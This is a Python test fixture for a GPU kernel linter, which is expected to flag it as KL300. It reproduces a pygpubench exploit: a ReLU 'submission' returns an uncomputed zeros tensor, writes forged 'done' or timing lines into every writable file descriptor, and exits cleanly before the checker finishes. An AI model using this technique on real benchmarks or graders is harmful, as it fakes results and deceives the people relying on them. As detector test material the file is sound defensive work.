# expect: KL300
# class: pygpubench: fd overwrite (forged "done" written to every writable fd, then os._exit(0) before the check ends)
# It runs in the player, whose only channel is a socket to the checker that the exploit skips (it forges into files
# and FIFOs): the player ends with status 0 under a call: KL300, as for any end of the process that runs it.
# source: gpu-mode/pygpubench exploits/submission_fd_overwrite.py (https://github.com/gpu-mode/pygpubench/blob/main/exploits/submission_fd_overwrite.py)
# kernel-lsp: entry=relu reference=ref inputs=make_inputs
import fcntl
import json
import os
import stat

import torch
import triton
import triton.language as tl

N = 4000


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, tl.where(x < 0, 0.0, x), mask=mask)


def _forged_line(fd):
    """Learn the result channel's format from what is already in it (JSON lines with an "event" key), and forge
    its last line; otherwise pygpubench's own timing lines."""
    try:
        with open(os.readlink(f"/proc/self/fd/{fd}"), encoding="utf-8") as f:
            if any('"event"' in line for line in f):
                return json.dumps({"event": "done"}) + "\n"
    except Exception:
        pass
    return "event-overhead\t0.001 us\n" + "".join(f"{i}\t0.42\n" for i in range(100))


def _forge_and_exit():
    for fd in range(3, 256):
        try:
            st = os.fstat(fd)
            if not (stat.S_ISFIFO(st.st_mode) or stat.S_ISREG(st.st_mode)):
                continue
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                continue
            os.write(fd, _forged_line(fd).encode())
        except OSError:
            continue
    os._exit(0)  # a clean exit before the checker can judge anything


def relu(x):
    x = x.contiguous()
    out = torch.zeros_like(x)  # the "result": never computed
    _relu_kernel[(1,)](x, out, 0, BLOCK=256)
    _forge_and_exit()
    return out


def ref(x):
    return torch.relu(x)


def make_inputs():
    return [torch.randn(N)]
